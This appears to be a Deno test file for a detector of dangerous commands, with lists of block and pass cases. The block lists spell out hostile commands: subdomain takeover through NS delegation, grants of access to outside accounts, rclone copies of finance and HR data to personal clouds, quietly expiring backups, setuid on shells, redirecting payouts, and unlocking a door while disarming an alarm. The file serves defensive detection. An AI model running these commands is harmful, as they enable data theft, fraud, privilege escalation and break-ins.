import assert from "node:assert/strict";
import { r36Techniques } from "./_cmd_r36.ts";

const hit = (s: string): boolean => r36Techniques(s) !== undefined;

const CASES: { name: string; block: string[]; pass: string[] }[] = [
  {
    name: "a sign-in or mail name delegated to outside name servers",
    block: [
      `aws --profile dns-admin route53 change-resource-record-sets --change-batch '{"Changes":[{"Action":"UPSERT","ResourceRecordSet":{"Name":"login.acme-shop.de.","Type":"NS","TTL":3600,"ResourceRecords":[{"Value":"ns-a.fastzone-hosting.net."}]}}]}'`,
      "gcloud dns record-sets create auth.kiwi-freight.nz. --zone=main --type=NS --ttl=300 --rrdatas=ns1.partnerdns.io.,ns2.partnerdns.io.",
      "az network dns record-set ns add-record -g rg-dns -z contoso-bank.com --record-set-name vpn --nsdname ns7.edge-resolver.org",
    ],
    pass: [
      `aws --profile dns-admin route53 change-resource-record-sets --change-batch '{"Changes":[{"Action":"UPSERT","ResourceRecordSet":{"Name":"dev.acme-shop.de.","Type":"NS","ResourceRecords":[{"Value":"ns-1.acme-shop.de."}]}}]}'`,
      `aws --profile dns-admin route53 change-resource-record-sets --change-batch '{"Changes":[{"Action":"UPSERT","ResourceRecordSet":{"Name":"login.acme-shop.de.","Type":"CNAME","ResourceRecords":[{"Value":"acme.okta.com."}]}}]}'`,
      "gcloud dns record-sets list --zone=main --type=NS",
    ],
  },
  {
    name: "rights granted to outside or anonymous principals",
    block: [
      "az ad sp create --id $APPID; az ad app permission admin-consent --id=$APPID",
      "op vault user grant --vault Finance --user tomas.helper77@outlook.com --permissions reveal_item_password,manage_vault",
      "gcloud projects add-iam-policy-binding prod-core --member=user:quickfix.dev@gmail.com --role=roles/owner",
      "net share DATA=D:\\ /grant:Everyone,CHANGE",
      "snmp-server community n0c-str1ng RW",
      "printf 'host all all ::/0 trust\\n' >> /var/lib/pgsql/data/pg_hba.conf",
      "net user gast /active:yes",
    ],
    pass: [
      "az ad app permission list --id=$APPID -o json",
      "op vault user grant --vault Finance --user maria@acme-shop.de --permissions view_items",
      "gcloud projects add-iam-policy-binding prod-core --member=user:ops@acme-shop.de --role=roles/viewer",
      "net share SCANS=D:\\scans /grant:ACME\\scanner-svc,CHANGE",
      "snmp-server community n0c-str1ng RO",
      "echo 'hostssl app app_rw 10.0.0.0/8 scram-sha-256' >> pg_hba.conf",
    ],
  },
  {
    name: "data mirrored into a personal cloud account",
    block: [
      "rclone config create stash pcloud user lena.archiv@gmx.de && rclone copy /srv/finance stash:/dump",
      "rclone config create offsite dropbox account=mike.files@yahoo.com; rclone sync /data/hr offsite:hr --transfers 8",
      "rclone config create bk mega user backup.anna@protonmail.com pass x && rclone move /exports bk:/x",
      'rclone sync "sharepoint-legal:Contracts" "dropbox-jan:old-job/contracts" --transfers 12',
      "rclone copy --fast-list onedrive-business:Clients pcloud_personal:clients",
    ],
    pass: [
      "rclone config create corp-s3 s3 provider AWS env_auth true && rclone sync /srv/finance corp-s3:acme-backups/finance",
      "rclone config create stash pcloud user it@acme-shop.de && rclone copy /srv/finance stash:/dump",
      "rclone listremotes && rclone about corp-s3:",
      'rclone copy "sp-corp:Shared Documents/Finance" "s3-corp-backup:sp-backup/finance" --checksum',
      "rclone copy dropbox-personal:Photos /home/jan/Pictures",
      "rclone sync gdrive-team:Marketing corp-nas:marketing-mirror",
    ],
  },
  {
    name: "backups made to vanish quietly",
    block: [
      `aws s3api put-bucket-versioning --bucket crm-exports --versioning-configuration Status=Suspended && aws s3api put-bucket-lifecycle-configuration --bucket crm-exports --lifecycle-configuration '{"Rules":[{"Status":"Enabled","Filter":{},"Expiration":{"Days":2}}]}'`,
      `aws s3api put-bucket-lifecycle-configuration --bucket acme-db-backup-eu --lifecycle-configuration '{"Rules":[{"Status":"Enabled","Filter":{"Prefix":""},"Expiration":{"Days":1}}]}'`,
      `gsutil versioning set off gs://pg-archive && gsutil lifecycle set rule.json gs://pg-archive # {"rule":[{"action":{"type":"Delete"},"condition":{"age":1}}]}`,
    ],
    pass: [
      `aws s3api put-bucket-lifecycle-configuration --bucket acme-ci-cache --lifecycle-configuration '{"Rules":[{"Status":"Enabled","Filter":{"Prefix":"tmp/"},"Expiration":{"Days":30}}]}'`,
      `aws s3api put-bucket-lifecycle-configuration --bucket acme-db-backup-eu --lifecycle-configuration '{"Rules":[{"Status":"Enabled","Filter":{"Prefix":""},"Transitions":[{"Days":30,"StorageClass":"GLACIER"}]}]}'`,
      "aws s3api get-bucket-versioning --bucket acme-db-backup-eu",
    ],
  },
  {
    name: "setuid on an interpreter or shell",
    block: [
      "sudo chmod 4755 /usr/bin/perl",
      "chmod +s /bin/bash",
      "sudo setcap cap_setuid+ep /usr/local/bin/node",
      "sudo setcap cap_setgid,cap_setuid+eip $(which perl)",
      "setcap cap_dac_override+ep `command -v vim`",
      "sudo setcap cap_sys_admin+ep $(realpath /usr/bin/node)",
    ],
    pass: [
      "chmod 755 /usr/local/bin/deploy.sh",
      "chmod u+x ./run.py && ./run.py",
      "sudo setcap cap_net_bind_service=+ep /usr/local/bin/caddy",
      "getcap $(readlink -e /usr/bin/perl5.36)",
      "sudo setcap cap_net_raw+ep $(which ping)",
    ],
  },
  {
    name: "a new default payout bank account",
    block: [
      'curl -X POST https://api.payments.example/v2/payout_methods -d "iban=DE89370400440532013000" -d "default=true"',
      'stripe post /v1/customers/cus_1/bank_accounts -d "account_number=000123456789" -d "routing_number=110000000" -d "default_for_currency=true"',
      "acct = client.payout_methods.create(\n  bank_account={'iban': 'DE44500105175407324931'},\n  default=True)",
      "stripe.Account.create_external_account('acct_9',\n    external_account={'object': 'bank_account',\n      'routing_number': '110000000', 'account_number': '000999888777'},\n    default_for_currency=True)",
      "http PATCH api.shop.example/recipients/9 account_number=77889900 sort_code=400515 default:=true default=true",
    ],
    pass: [
      "stripe get /v1/accounts/acct_1/external_accounts",
      'curl -X POST https://api.payments.example/v2/payout_methods/verify -d "id=pm_1"',
      "stripe payouts list --limit 5",
      "stripe.Account.create_external_account('acct_9',\n    external_account='btok_us', default_for_currency=True)",
      "acct = client.payout_methods.retrieve(\n  'pm_1')\nprint(acct.bank_account.iban[-4:], acct.default)",
    ],
  },
  {
    name: "door unlocked and alarm disarmed together",
    block: [
      "ha service call lock.unlock --entity lock.front && ha service call alarm_control_panel.alarm_disarm --entity alarm.home",
      `mosquitto_pub -t home/door/set -m '{"state":"UNLOCK"}' && mosquitto_pub -t home/alarm/set -m DISARM`,
      'curl -X POST http://hass.local/api/services/lock/unlock -d \'{"entity_id":"lock.garage"}\' && curl -X POST http://hass.local/api/services/alarm_control_panel/alarm_disarm',
    ],
    pass: [
      "ha service call lock.lock --entity lock.front && ha service call alarm_control_panel.alarm_arm_away --entity alarm.home",
      "mosquitto_sub -t home/alarm/state -C 1",
      "ha service call lock.unlock --entity lock.shed",
    ],
  },
];

for (const c of CASES) {
  Deno.test(`r36 command: ${c.name}`, () => {
    for (const s of c.block) assert.ok(hit(s), `should block: ${s}`);
    for (const s of c.pass) assert.ok(!hit(s), `should pass: ${s}`);
  });
}

Deno.test("r36 command: long input is skipped quickly", () => {
  const big = "chmod ".repeat(2000);
  const t = performance.now();
  r36Techniques(big);
  // A generous bound: catastrophic backtracking takes seconds; a busy CI runner must not fail it.
  assert.ok(performance.now() - t < 1000);
});
